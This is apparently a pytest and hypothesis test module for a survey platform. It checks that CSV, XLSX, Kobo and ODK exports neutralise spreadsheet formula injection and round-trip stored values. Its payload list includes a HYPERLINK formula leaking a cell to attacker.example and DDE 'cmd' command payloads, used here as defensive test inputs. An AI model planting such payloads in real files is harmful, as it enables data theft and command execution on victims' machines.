"""No export carries a live formula.

Every cell of every spreadsheet format (the labelled CSV and XLSX, Kobo CSV and XLSX, ODK CSV
and the ODK zip with its repeat CSVs) reaches its file through ``core.cells.CellWriter``: numbers
are written as numbers, and text a spreadsheet would run (OWASP's rule: a leading ``=``, ``+``,
``-``, ``@``, tab or carriage return, and the full-width ``＝＋－＠``) gets a quote in front.
Read back with the csv module or openpyxl, no cell starts with such a character unless it is a
plain number, and no XLSX cell is a formula. The Kobo JSON is read by programs, not by
spreadsheets: it carries every value as stored. The machine formats still import back into an
empty copy of the form with identical stored values.
"""

from __future__ import annotations

import csv
import datetime
import io
import json
import re
import tempfile
import zipfile
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

import pytest
from django.test import Client
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

import amniyat
from amniyat.accounts.models import Membership, Programme
from amniyat.fieldwork.collection.services import device_create, submission_receive
from amniyat.fieldwork.forms.services import form_publish
from amniyat.fieldwork.imports.convert import unneutralise
from amniyat.fieldwork.imports.schema import FormPlan, build_plan
from amniyat.fieldwork.models import Form, Submission
from amniyat.fieldwork.submissions import exporters
from amniyat.places.models import Place
from tests.factories import PlaceFactory, ProgrammeFactory, district, member_of
from tests.fieldwork.imports.test_importers import make_form
from tests.fieldwork.submissions.exporting import exported
from tests.fieldwork.submissions.test_export import export, imported, stored

Role = Membership.Role
# OWASP's CSV injection rule, and the full-width signs some spreadsheets also honour.
DANGER = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
PLAIN_NUMBER = re.compile(r"-?(?:[0-9]+\.?[0-9]*|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")
PAYLOADS = (
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "'=already quoted",
    "''-twice",
    "#N/A",
    "-5",
    "-1.5e-07",
)
SPREADSHEET_FORMATS = ("csv", "xlsx", "kobo-csv", "kobo-xlsx", "odk-csv", "odk-zip")
MACHINE_FORMATS = ("kobo-csv", "kobo-xlsx", "kobo-json", "odk-csv", "odk-zip")
MEMBER = "household/member"


@pytest.fixture(autouse=True)
def _fast_passwords(settings: Any) -> None:
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


def live(value: str) -> bool:
    """Whether a spreadsheet could run this text: it starts with a formula character and is
    not a plain number (``-5`` is a constant, never a formula)."""
    return value[:1] in DANGER and not PLAIN_NUMBER.fullmatch(value)


# ----------------------------------------------------------------------------------------
# Reading an export back, cell by cell


def csv_cells(text: str, delimiter: str = ",") -> list[str]:
    reader = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    return [cell for row in reader for cell in row]


def written_cells(
    plan: FormPlan, rows: list[exporters.ExportRow], folder: Path, *, title: str = "form"
) -> dict[str, list[tuple[Any, str]]]:
    """Every spreadsheet format written from ``rows`` and read back: (value, data type) of
    each cell, the type being openpyxl's for XLSX and ``s`` for CSV."""
    found: dict[str, list[tuple[Any, str]]] = {}

    def text(write: Any) -> str:
        buffer = io.StringIO(newline="")
        write(buffer)
        return buffer.getvalue()

    found["csv"] = [
        (c, "s") for c in csv_cells(text(lambda o: exporters.write_table_csv(o, plan, rows, "en")))
    ]
    found["kobo-csv"] = [
        (c, "s") for c in csv_cells(text(lambda o: exporters.write_kobo_csv(o, plan, rows)), ";")
    ]
    found["odk-csv"] = [
        (c, "s") for c in csv_cells(text(lambda o: exporters.write_odk_csv(o, plan, rows)))
    ]
    exporters.write_odk_zip(folder / "odk.zip", plan, rows, form_id=title)
    with zipfile.ZipFile(folder / "odk.zip") as archive:
        found["odk-zip"] = [
            (c, "s")
            for name in archive.namelist()
            for c in csv_cells(archive.read(name).decode("utf-8"))
        ]
    exporters.write_table_xlsx(folder / "table.xlsx", plan, rows, "en")
    exporters.write_kobo_xlsx(folder / "kobo.xlsx", plan, rows, title=title)
    for export_format, name in (("xlsx", "table.xlsx"), ("kobo-xlsx", "kobo.xlsx")):
        book = load_workbook(folder / name)  # formulas kept as formulas, not their results
        found[export_format] = [
            (cell.value, cell.data_type)
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for cell in row
        ]
    return found


def assert_inert(found: dict[str, list[tuple[Any, str]]]) -> None:
    for export_format, cells in found.items():
        for value, data_type in cells:
            assert data_type != "f", f"{export_format}: a formula cell {value!r}"
            if isinstance(value, str):
                # A string stays a string: never a formula, nor an error such as #N/A.
                assert data_type == "s", f"{export_format}: {value!r} is of type {data_type}"
                assert not live(value), f"{export_format}: live cell {value!r}"


# ----------------------------------------------------------------------------------------
# Any form, any answers


LETTERS = st.characters(exclude_categories=("Cs", "Cc", "Cn"), include_characters="\t\r\n")
# Choice and question names hold no white space (a select_multiple joins them with spaces).
NAME_LETTERS = st.characters(
    exclude_categories=("Cs", "Cc", "Cn", "Zs", "Zl", "Zp"), exclude_characters="/"
)


def dangerous(letters: st.SearchStrategy[str], signs: tuple[str, ...] = DANGER) -> Any:
    return st.builds(
        lambda quotes, sign, rest: "'" * quotes + sign + rest,
        st.integers(0, 2),
        st.sampled_from(signs),
        st.text(letters, max_size=10),
    )


TEXTS = st.one_of(dangerous(LETTERS), st.sampled_from(PAYLOADS), st.text(LETTERS, max_size=10))
NAMES = st.one_of(
    dangerous(NAME_LETTERS, tuple(s for s in DANGER if not s.isspace())),
    st.sampled_from(["-99", "=1+1", "@x", "+1", "－1", "theft"]),
    st.text(NAME_LETTERS, min_size=1, max_size=8),
)
FIXED_NAMES = {"note", "count", "amount", "visit", "district", "safety", "household"}


@st.composite
def forms_and_rows(draw: Any) -> tuple[FormPlan, list[exporters.ExportRow], str]:
    """A form of every field type, its labels, choice names and choice labels, one question
    name and every answer liable to start with a formula character; a few submissions."""

    def choices() -> list[dict[str, Any]]:
        names = draw(st.lists(NAMES, min_size=1, max_size=4, unique=True))
        return [{"name": n, "label": {"en": draw(TEXTS)}} for n in names]

    odd = draw(NAMES.filter(lambda n: n not in FIXED_NAMES and n.strip() == n))
    schema: list[dict[str, Any]] = [
        {"name": "note", "path": "note", "type": "text", "label": {"en": draw(TEXTS)}},
        {"name": odd, "path": odd, "type": "text"},  # no label: the name is its header
        {"name": "count", "path": "count", "type": "integer", "label": {"en": draw(TEXTS)}},
        {"name": "amount", "path": "amount", "type": "decimal", "label": {"en": draw(TEXTS)}},
        {"name": "visit", "path": "visit", "type": "date", "label": {"en": draw(TEXTS)}},
        {"name": "district", "path": "district", "type": "select_one", "choices": choices()},
        {
            "name": "worries",
            "path": "safety/worries",
            "type": "select_multiple",
            "label": {"en": draw(TEXTS)},
            "choices": choices(),
        },
        {
            "name": "member_name",
            "path": f"{MEMBER}/member_name",
            "type": "text",
            "label": {"en": draw(TEXTS)},
            "repeat": MEMBER,
        },
        {"name": "member_age", "path": f"{MEMBER}/member_age", "type": "integer", "repeat": MEMBER},
        {
            "name": "roles",
            "path": f"{MEMBER}/roles",
            "type": "select_multiple",
            "repeat": MEMBER,
            "choices": choices(),
        },
    ]
    plan = build_plan(schema, {str(f["path"]): "public" for f in schema})
    by_path = {f["path"]: [c["name"] for c in f.get("choices", [])] for f in schema}

    def chosen(path: str) -> Any:
        # Any order, so a dangerous choice comes first, in the middle or last.
        return st.lists(st.sampled_from(by_path[path]), min_size=1, unique=True)

    rows = []
    for _number in range(draw(st.integers(1, 3))):
        members = draw(st.integers(0, 3))
        answers: dict[str, Any] = {
            "note": draw(TEXTS),
            odd: draw(TEXTS),
            "count": draw(st.one_of(st.integers(-(10**9), 10**9), TEXTS)),
            "amount": draw(st.one_of(st.floats(allow_nan=False, allow_infinity=False), TEXTS)),
            "visit": draw(st.one_of(st.dates().map(datetime.date.isoformat), TEXTS)),
            "district": draw(st.sampled_from(by_path["district"])),
            "safety/worries": draw(chosen("safety/worries")),
        }
        if members:
            size = {"min_size": members, "max_size": members}
            answers[f"{MEMBER}/member_name"] = draw(st.lists(st.none() | TEXTS, **size))
            answers[f"{MEMBER}/member_age"] = draw(
                st.lists(st.none() | st.integers(-99, 99) | TEXTS, **size)
            )
            answers[f"{MEMBER}/roles"] = draw(
                st.lists(st.none() | chosen(f"{MEMBER}/roles"), **size)
            )
        rows.append(
            exporters.ExportRow(
                instance_id=draw(TEXTS),
                submitted_at=datetime.datetime(2024, 5, 1, 9, 30, tzinfo=datetime.UTC),
                enumerator=draw(TEXTS),
                place=draw(TEXTS),
                answers=answers,
            )
        )
    title = draw(st.sampled_from(["form", "=form", "-form", "@form", "+form", "＝form"]))
    return plan, rows, title


@settings(max_examples=60)
@given(case=forms_and_rows())
def test_no_cell_of_any_spreadsheet_format_can_run(
    case: tuple[FormPlan, list[exporters.ExportRow], str],
) -> None:
    """Whatever the form and the answers, no cell of the labelled CSV or XLSX, Kobo CSV or
    XLSX, ODK CSV or the ODK zip (repeat CSVs included) starts with a formula character
    unless it is a plain number, and no XLSX cell is a formula or an error."""
    plan, rows, title = case
    with tempfile.TemporaryDirectory() as folder:
        found = written_cells(plan, rows, Path(folder), title=title)
    assert set(found) == set(SPREADSHEET_FORMATS)
    assert_inert(found)


@settings(max_examples=60)
@given(case=forms_and_rows())
def test_the_kobo_json_carries_every_value_as_stored(
    case: tuple[FormPlan, list[exporters.ExportRow], str],
) -> None:
    """The JSON is read by programs, so a quote would corrupt the value for them: ids,
    enumerators and choices come out exactly as stored, and free text too, but for the one
    more quote on text that already starts with a quote before a formula character, which the
    importer takes off again."""
    plan, rows, _title = case
    buffer = io.StringIO()
    exporters.write_kobo_json(buffer, plan, rows)
    records = json.loads(buffer.getvalue())["results"]
    for row, record in zip(rows, records, strict=True):
        assert record["meta/instanceID"] == row.instance_id
        assert record["_submitted_by"] == (row.enumerator or None)
        assert record["safety/worries"] == " ".join(row.answers["safety/worries"])
        assert record["district"] == row.answers["district"]
        note = row.answers["note"]
        assert unneutralise(record["note"]) == note
        if unneutralise(note) == note:
            assert record["note"] == note


def test_numbers_stay_numbers_and_plain_negative_numbers_are_not_quoted() -> None:
    plan = build_plan(
        [
            {"name": "n", "path": "n", "type": "integer"},
            {"name": "x", "path": "x", "type": "decimal"},
            {"name": "t", "path": "t", "type": "text"},
            {"name": "c", "path": "c", "type": "select_one", "choices": [{"name": "-99"}]},
        ],
        {"n": "public", "x": "public", "t": "public", "c": "public"},
    )
    row = exporters.ExportRow(
        instance_id="uuid:1",
        submitted_at=datetime.datetime(2024, 5, 1, tzinfo=datetime.UTC),
        enumerator="ali",
        place="",
        answers={"n": -5, "x": -1.5e-07, "t": "-5 apples", "c": "-99"},
    )
    with tempfile.TemporaryDirectory() as folder:
        found = written_cells(plan, [row], Path(folder))
    kobo_xlsx = [value for value, _type in found["kobo-xlsx"]]
    assert -5 in kobo_xlsx and -1.5e-07 in kobo_xlsx  # numbers, not text
    assert "'-5 apples" in kobo_xlsx
    assert "-99" in kobo_xlsx  # a choice that is a plain number is not quoted
    buffer = io.StringIO(newline="")
    exporters.write_odk_csv(buffer, plan, [row])
    header, values = csv.reader(io.StringIO(buffer.getvalue(), newline=""))
    odk = dict(zip(header, values, strict=True))
    assert (odk["n"], odk["x"], odk["t"], odk["c"]) == ("-5", "-1.5e-07", "'-5 apples", "-99")


SOURCE = Path(amniyat.__file__).parent
CSV_WRITER = re.compile(r"csv\.writer\(|csv\.DictWriter\(")
NEW_SHEET = re.compile(r"\.create_sheet\(|\.active\b")
# Files that write cells themselves, and why that is safe.
WRITE_THEIR_OWN_CELLS = {
    "fieldwork/forms/xlsform.py": "an uploaded XLSForm as CSV for pyxform, never downloaded",
    "demo/survey.py": "the demo XLSForm, all of it the project's own text",
}


def test_only_the_cell_writer_writes_cells() -> None:
    """A new export cannot forget: outside :class:`core.cells.CellWriter` no module opens a
    csv writer, and every XLSX sheet a module opens is handed to ``CellWriter.for_sheet``
    within the next lines, but for the few files listed with their reason."""
    found = {}
    for path in sorted(SOURCE.rglob("*.py")):
        name = path.relative_to(SOURCE).as_posix()
        if "/migrations/" in name or name in WRITE_THEIR_OWN_CELLS or name == "core/cells.py":
            continue
        lines = path.read_text(encoding="utf-8").splitlines()
        for number, line in enumerate(lines, 1):
            after = "\n".join(lines[number - 1 : number + 4])
            if CSV_WRITER.search(line) or (
                NEW_SHEET.search(line) and "CellWriter.for_sheet(" not in after
            ):
                found[f"{name}:{number}"] = line.strip()
    assert found == {}


# ----------------------------------------------------------------------------------------
# Submissions stored by the project's own services, exported through the page


SCHEMA: list[dict[str, Any]] = [
    {"name": "name", "path": "respondent/name", "type": "text", "label": {"en": "=Name"}},
    {"name": "age", "path": "respondent/age", "type": "integer", "label": {"en": "+Age"}},
    {"name": "income", "path": "income", "type": "decimal", "label": {"en": "-Income"}},
    {"name": "visit", "path": "visit", "type": "date", "label": {"en": "@Visit"}},
    {
        "name": "choice",
        "path": "choice",
        "type": "select_one",
        "label": {"en": "\tChoice"},
        "choices": [
            {"name": "-99", "label": {"en": "=Refused"}},
            {"name": "yes", "label": {"en": "＝Yes"}},
        ],
    },
    {
        "name": "worries",
        "path": "safety/worries",
        "type": "select_multiple",
        "label": {"en": "\rWorries"},
        "choices": [
            {"name": "theft", "label": {"en": "Theft"}},
            {"name": "=1+1", "label": {"en": "@Formula"}},
            {"name": "-99", "label": {"en": "-Refused"}},
            {"name": "police", "label": {"en": "Police"}},
        ],
    },
    {"name": "comment", "path": "safety/comment", "type": "text", "label": {"en": "＠Comment"}},
    {"name": "village", "path": "village", "type": "text", "label": {"en": "Village"}},
    {
        "name": "member_name",
        "path": f"{MEMBER}/member_name",
        "type": "text",
        "label": {"en": "=Member"},
        "repeat": MEMBER,
    },
    {
        "name": "member_age",
        "path": f"{MEMBER}/member_age",
        "type": "integer",
        "label": {"en": "-Member age"},
        "repeat": MEMBER,
    },
]
SENSITIVITY = {str(f["path"]): "internal" for f in SCHEMA}


def collected_form(programme: Programme, *, form_id: str = "household") -> Form:
    form = make_form(programme, schema=SCHEMA, sensitivity=SENSITIVITY, form_id=form_id)
    lead = programme.memberships.get(role=Role.LEAD).user
    form_publish(acting_user=lead, form=form)
    return form


def xml_of(form: Form, instance_id: str, answers: dict[str, Any]) -> bytes:
    """An ODK Collect submission of ``answers`` (repeat answers as lists)."""

    def element(path: str, value: Any) -> str:
        *groups, name = path.split("/")
        inner = f"<{name}>{escape(str(value))}</{name}>"
        for group in reversed(groups):
            inner = f"<{group}>{inner}</{group}>"
        return inner

    main = "".join(element(p, v) for p, v in answers.items() if not p.startswith(MEMBER))
    count = max((len(v) for p, v in answers.items() if p.startswith(MEMBER)), default=0)
    members = "".join(
        "<member>"
        + "".join(
            f"<{p.rsplit('/', 1)[1]}>{escape(str(v[i]))}</{p.rsplit('/', 1)[1]}>"
            for p, v in answers.items()
            if p.startswith(MEMBER)
        )
        + "</member>"
        for i in range(count)
    )
    return (
        f'<data id="{form.form_id}" version="1">{main}<household>{members}</household>'
        f"<meta><instanceID>{escape(instance_id)}</instanceID></meta></data>"
    ).encode()


def receive(form: Form, device: Any, instance_id: str, answers: dict[str, Any]) -> Submission:
    return submission_receive(device=device, xml=xml_of(form, instance_id, answers)).submission


def device_for(form: Form) -> Any:
    programme = form.assessment.programme
    lead = programme.memberships.get(role=Role.LEAD).user
    device, _password = device_create(
        acting_user=lead,
        programme=programme,
        organisation=programme.lead_organisation,
        assessments=[form.assessment],
        username=f"phone-{form.form_id}",
    )
    return device


def exported_cells(client: Client, form: Form, export_format: str) -> list[tuple[Any, str]]:
    response = exported(client, form, {"export_format": export_format, "language": "en"})
    assert response.status_code == 200
    content = b"".join(response.streaming_content)  # type: ignore[attr-defined]
    if export_format in ("csv", "kobo-csv", "odk-csv"):
        delimiter = ";" if export_format == "kobo-csv" else ","
        return [(c, "s") for c in csv_cells(content.decode("utf-8-sig"), delimiter)]
    if export_format == "odk-zip":
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            return [
                (c, "s")
                for name in archive.namelist()
                for c in csv_cells(archive.read(name).decode("utf-8"))
            ]
    book = load_workbook(io.BytesIO(content))
    return [
        (cell.value, cell.data_type)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
    ]


@pytest.mark.parametrize("export_format", SPREADSHEET_FORMATS)
def test_submissions_from_phones_and_imports_export_without_a_live_formula(
    db: None, export_format: str
) -> None:
    """A phone sends formulas as text answers, a formula choice in the middle and at the start
    of a select_multiple, a choice that is a negative number, formulas in repeat rows, under
    labels and choice labels that start with formula characters; an imported file brings a
    formula instance id and enumerator; the place is named with one. Exported through the
    page in each spreadsheet format, no cell can run. (Text where a number or a date is asked
    no longer gets through the receiver's checks; the property test above covers it.)"""
    programme = ProgrammeFactory()
    lead = member_of(programme, Role.LEAD)
    PlaceFactory(
        programme=programme,
        level=Place.Level.COMMUNITY,
        parent=district(),
        name_en="@Vakhsh mahalla",
    )
    form = collected_form(programme)
    device = device_for(form)
    receive(
        form,
        device,
        "uuid:phone-1",
        {
            "respondent/name": '=HYPERLINK("http://x","y")',
            "respondent/age": -5,
            "income": -1.5,
            "choice": "-99",
            "safety/worries": "theft =1+1 police",  # in the middle
            "safety/comment": "+992 90 123",
            "village": "@Vakhsh mahalla",
            f"{MEMBER}/member_name": ["=member", "＠member"],
            f"{MEMBER}/member_age": [-3, 7],
        },
    )
    receive(
        form,
        device,
        "-phone-2",
        {"respondent/name": "-2+3+cmd|' /C calc'!A0", "safety/worries": "=1+1 -99"},
    )
    imported(
        form,
        b"respondent/name,meta/instanceID,_submitted_by,_submission_time\n"
        b"Rustam,=import-1,@enumerator,2021-09-01T05:20:00\n",
        "import.csv",
    )
    stored_values = {s.instance_id: s for s in Submission.objects.filter(form=form)}
    assert stored_values["uuid:phone-1"].place is not None
    assert stored_values["=import-1"].enumerator == "@enumerator"
    client = Client()
    client.force_login(lead)
    cells = exported_cells(client, form, export_format)
    texts = [value for value, _type in cells if isinstance(value, str)]
    assert any(text.startswith("'=HYPERLINK") for text in texts)  # there, made inert
    assert_inert({export_format: cells})


ROUND_TRIP = {
    "respondent/name": '=HYPERLINK("http://x","y")',
    "respondent/age": -5,
    "income": -1.5e-07,
    "visit": "2021-09-01",
    "choice": "-99",  # a choice that is a plain negative number
    "safety/worries": "theft -99 =1+1",  # dangerous choices after the first
    "safety/comment": "'=already quoted",
    "village": "- a list, + a plus, @ a mention",
}
MEMBERS = {
    f"{MEMBER}/member_name": ["=member", "@member", "'+quoted"],
    f"{MEMBER}/member_age": [-3, 4, -5],
}


@pytest.mark.parametrize("export_format", MACHINE_FORMATS)
def test_formula_answers_import_back_identically(
    db: None, tmp_path: Path, export_format: str
) -> None:
    """Formula answers (text, repeat text where the format has repeats, a quote already in
    front, choices and negative numbers) exported in each machine format import back into an
    empty copy of the form with identical stored values: the quote the export adds is the one
    the importer takes off, and plain negative numbers are never quoted."""
    programme = ProgrammeFactory()
    member_of(programme, Role.LEAD)
    source = collected_form(programme, form_id="source")
    with_repeats = export_format in ("kobo-xlsx", "kobo-json", "odk-zip")
    answers = {**ROUND_TRIP, **MEMBERS} if with_repeats else ROUND_TRIP
    receive(source, device_for(source), "uuid:trip-1", answers)
    copy = make_form(programme, schema=SCHEMA, sensitivity=SENSITIVITY, form_id="copy")
    content, name = export(source, export_format, tmp_path)
    job = imported(copy, content, name)
    assert job.stored == 1
    assert stored(copy) == stored(source)
    answers = next(iter(stored(copy).values()))[0]
    assert answers["respondent/name"] == '=HYPERLINK("http://x","y")'
    assert answers["choice"] == "-99" and answers["respondent/age"] == -5


@pytest.mark.parametrize("export_format", MACHINE_FORMATS)
def test_full_width_text_and_a_formula_choice_first_import_back(
    db: None, tmp_path: Path, export_format: str
) -> None:
    """The export quotes text led by a full-width sign and a select_multiple whose first
    choice is a formula (``-99 theft`` reads as ``=-99 theft`` in a spreadsheet); every
    machine format imports back identically (the importer takes those quotes off)."""
    programme = ProgrammeFactory()
    member_of(programme, Role.LEAD)
    source = collected_form(programme, form_id="source")
    answers = {"respondent/name": "＝SUM(1,1)", "safety/worries": "-99 theft"}
    receive(source, device_for(source), "uuid:trip-2", answers)
    copy = make_form(programme, schema=SCHEMA, sensitivity=SENSITIVITY, form_id="copy")
    content, name = export(source, export_format, tmp_path)
    imported(copy, content, name)
    assert stored(copy) == stored(source)
